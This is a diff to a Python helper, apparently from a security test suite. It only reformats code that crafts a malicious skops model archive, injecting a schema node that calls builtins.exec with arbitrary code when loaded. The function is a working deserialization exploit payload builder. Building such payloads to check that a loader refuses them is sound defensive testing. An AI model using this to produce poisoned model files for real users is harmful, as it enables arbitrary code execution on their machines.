@@ -12,11 +12,23 @@ def skops_with_exec(payload: bytes, code: str, key: str = "target_regime_ahead")
     constructs as ``builtins.exec(code)``: loading it runs ``code`` unless its types are refused."""
     archive = zipfile.ZipFile(io.BytesIO(payload))
     schema = json.loads(archive.read("schema.json"))
-    string = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(code), "is_json": True}
+    string = {
+        "__class__": "str",
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(code),
+        "is_json": True,
+    }
     arguments = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [string]}
-    schema["content"] = {**schema["content"], key: {
-        "__class__": "exec", "__module__": "builtins", "__loader__": "ConstructorFromReduceNode", "content": arguments,
-    }}
+    schema["content"] = {
+        **schema["content"],
+        key: {
+            "__class__": "exec",
+            "__module__": "builtins",
+            "__loader__": "ConstructorFromReduceNode",
+            "content": arguments,
+        },
+    }
     crafted = io.BytesIO()
     with zipfile.ZipFile(crafted, "w") as out:
         for name in archive.namelist():
